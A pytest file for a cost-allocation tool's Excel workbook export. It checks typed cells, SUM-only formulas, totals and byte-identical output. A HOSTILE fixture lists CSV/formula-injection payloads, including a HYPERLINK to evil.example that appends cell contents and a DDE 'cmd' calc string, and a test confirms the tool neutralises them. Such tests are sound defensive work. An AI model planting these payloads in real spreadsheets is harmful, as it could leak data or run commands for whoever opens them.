"""The workbook as other programs read it: typed cells, the figures of the command line, no formula but our own, the same bytes every time."""

import re
import zipfile
from datetime import UTC, date, datetime
from decimal import Decimal
from io import BytesIO
from pathlib import Path
from typing import Any

import openpyxl
import pyarrow as pa
import pytest
from python_calamine import CalamineWorkbook

import apportion
from apportion.errors import ProjectError
from apportion.model.money import total_of
from apportion.model.rows import POSTINGS
from apportion.render.excel.looks import LONGEST
from apportion.render.excel.workbook import Leaf, Workbook, check_size, render
from apportion.render.sheet import Sheet, Table
from apportion.reports.flat import flat
from apportion.reports.report import Column
from apportion.verbs.excel import export_excel
from apportion.verbs.project import Project
from tests.web import world

CLOSED, OPEN = world.BILLED
SHEETS = ["Summary", "Teams", "Pools", "Idle", "Changes", "Data", "Policy", "About"]
MADE = datetime(2026, 11, 1, tzinfo=UTC).replace(tzinfo=None)
HOSTILE = (
    '=HYPERLINK("http://evil.example/"&A1,"see")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "=1", "http://evil.example/x",
    "0123", "1e5", "_x0041_", "a\x00\x07b", "right\u202eleft", "<script>&amp;", "'quoted", "é日本", "TRUE", "2026-10-01",
)  # fmt: skip


@pytest.fixture(scope="session")
def file(small: Project, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return export_excel(small, OPEN, tmp_path_factory.mktemp("excel") / "october.xlsx").path


@pytest.fixture(scope="session")
def book(file: Path) -> Any:
    return openpyxl.load_workbook(file, data_only=True)


def records(sheet: Any) -> list[dict[str, Any]]:
    heads, *rows = sheet.iter_rows(values_only=True)
    return [dict(zip(heads, row, strict=True)) for row in rows]


def table_after(sheet: Any, head: str) -> list[tuple[Any, ...]]:
    """The rows below the one that begins with `head`, up to the first that begins with nothing."""
    rows = list(sheet.iter_rows(values_only=True))
    start = next(n for n, row in enumerate(rows) if row[0] == head)
    end = next(n for n in range(start + 1, len(rows)) if rows[n][0] is None)
    return rows[start:end]


def test_the_sheets_are_there_in_the_order_of_reading(book: Any) -> None:
    assert book.sheetnames == SHEETS
    assert book["Data"].freeze_panes == "A2"
    (table,) = book["Data"].tables.values()
    assert (table.displayName, table.autoFilter is not None) == ("Postings", True)
    assert table.ref == book["Data"].dimensions


def test_rows_to_pivot_are_typed_and_come_to_the_bill_digit_for_digit(small: Project, book: Any) -> None:
    rows = records(book["Data"])
    posted = small.books.posted(OPEN)
    exact = total_of(Decimal(row["Exact amount"]) for row in rows if row["Day"])
    assert exact == total_of(posted["amount"].to_pylist())
    assert total_of(Decimal(row["Exact amount"]) for row in rows) == round(exact, 2), (
        "with those of no day, the rounded bill"
    )
    for row in rows:
        assert isinstance(row["Month"], datetime)
        assert isinstance(row["Day"], datetime | None)
        assert isinstance(row["Amount"], int | float)
        assert abs(Decimal(row["Amount"]) - Decimal(row["Exact amount"])) < Decimal("1e-9")
    amount = next(cell for cell in book["Data"][2] if book["Data"].cell(1, cell.column).value == "Amount")
    assert amount.number_format == "#,##0.00;[Red]-#,##0.00;-"
    assert book["Data"]["B2"].number_format == "yyyy-mm-dd"
    assert "user" not in rows[0]


def test_teams_owe_what_the_command_line_says(small: Project, book: Any) -> None:
    (section,) = apportion.report(small, "showback", OPEN).sections
    heads, *rows = table_after(book["Teams"], "team")
    amount = heads.index("amount USD")
    assert {row[0]: row[amount] for row in rows} == {row[0]: float(row[-2]) for row in section.rows}  # type: ignore[arg-type]


def test_the_summary_says_that_it_adds_up(small: Project, book: Any) -> None:
    heads, *rows = table_after(book["Summary"], "bill")
    (bill,) = rows
    said = dict(zip(heads, bill, strict=True))
    assert said["difference"] == 0
    assert said["owners"] + said["_idle"] + said["_unallocated"] + said["_residual"] == pytest.approx(said["the bill"])
    assert book["Summary"]["A1"].value == apportion.report(small, "showback", OPEN).title


def test_calculated_cells_are_sums_of_ours_and_say_what_they_come_to(file: Path, book: Any) -> None:
    formulas = {
        (sheet.title, cell.coordinate): str(cell.value)
        for sheet in openpyxl.load_workbook(file)
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    }
    assert formulas
    for (sheet, place), formula in formulas.items():
        found = re.fullmatch(r"=SUM\(([A-Z]+)(\d+)(?::\1(\d+))?\)", formula)
        assert found, formula
        cells = [row[0].value or 0 for row in book[sheet][f"{found[1]}{found[2]}:{found[1]}{found[3] or found[2]}"]]
        assert book[sheet][place].value == pytest.approx(sum(cells))


def test_the_month_before_stands_beside(small: Project, book: Any) -> None:
    heads, *rows = table_after(book["Changes"], "owner")
    before, after = (
        {row[0]: float(str(row[-2])) for row in apportion.report(small, "showback", month).sections[0].rows}
        for month in world.BILLED
    )
    for row in rows:
        said = dict(zip(heads, row, strict=False))
        assert (said["month before"], said["this month"]) == (before.get(row[0], 0), after.get(row[0], 0))


def test_the_first_month_has_none_before(small: Project, tmp_path: Path) -> None:
    done = export_excel(small, CLOSED, tmp_path / "september.xlsx")
    changes = openpyxl.load_workbook(done.path)["Changes"]
    assert changes["A1"].value == "Nothing is posted for 2026-08: there is nothing to compare 2026-09 with."
    assert "closed: its figures stay" in str(list(openpyxl.load_workbook(done.path)["About"].values))


def test_the_same_books_give_the_same_bytes_and_one_note(small: Project, file: Path, tmp_path: Path) -> None:
    again = export_excel(small, OPEN, tmp_path / "again.xlsx")
    assert again.path.read_bytes() == file.read_bytes()
    assert again.again
    assert [one.detail for one in small.books.audit()].count(f"workbook of {OPEN}, sha256 {again.sha256}") == 1


@pytest.fixture
def hostile() -> bytes:
    rows = [
        {
            **dict.fromkeys(POSTINGS.names, name),
            "period": OPEN,
            "day": date(2026, 10, 5),
            "currency": "USD",
            "amount": Decimal(n),
        }
        for n, name in enumerate(HOSTILE)
    ]
    data = flat(pa.Table.from_pylist(rows, schema=POSTINGS))
    table = Table((Column("what", "what"),), tuple((name,) for name in HOSTILE))
    leaf = Leaf("Names", Sheet(HOSTILE[0], (table,), notes=HOSTILE))
    return render(Workbook(HOSTILE[0], (leaf,), data, "Names", MADE))


def test_whatever_names_say_they_stay_text(hostile: bytes) -> None:
    with zipfile.ZipFile(BytesIO(hostile)) as archive:
        parts = {name: archive.read(name).decode() for name in archive.namelist()}
    assert not [name for name, part in parts.items() if "<f>" in part or "<hyperlink" in part or "externalLink" in name]
    book = openpyxl.load_workbook(BytesIO(hostile))
    teams = {row["Team"] for row in records(book["Data"])}
    shown = {
        name.replace("\t", "\\u0009").replace("\x00", "\\u0000").replace("\x07", "\\u0007").replace("\u202e", "\\u202e")
        for name in HOSTILE
    }
    assert teams == shown
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n", "d"}
    risky = [
        cell for cell in cells if cell.parent.title == "Data" and str(cell.value).startswith(("=", "+", "-2", "@"))
    ]
    assert risky
    assert [cell.coordinate for cell in risky if not cell.quotePrefix] == []


def test_another_reader_sees_the_same(hostile: bytes) -> None:
    """calamine has no formulas to show, and the same names."""
    book = CalamineWorkbook.from_filelike(BytesIO(hostile))
    heads, *rows = book.get_sheet_by_name("Data").to_python()
    mine = {row["Team"] for row in records(openpyxl.load_workbook(BytesIO(hostile))["Data"])}
    assert {row[heads.index("Team")] for row in rows} == mine
    assert sorted(row[heads.index("Amount")] for row in rows) == [float(n) for n in range(len(HOSTILE))]


def test_a_text_that_no_cell_holds_is_cut_and_says_so() -> None:
    leaf = Leaf("Long", Sheet("long", (Table((Column("what", "what"),), (("x" * 40_000,),)),)))
    body = render(Workbook("long", (leaf,), flat(POSTINGS.empty_table()), "Long", MADE))
    (cell,) = [row[0] for row in openpyxl.load_workbook(BytesIO(body))["Long"].values if str(row[0]).startswith("xxx")]
    assert len(str(cell)) == LONGEST
    assert str(cell).endswith("… (cut)")


def test_more_rows_than_a_sheet_holds_are_refused_with_other_ways() -> None:
    check_size(1_048_575)
    with pytest.raises(ProjectError, match="1,048,576 rows") as refused:
        check_size(1_048_576)
    assert "apportion export tableau" in refused.value.hint
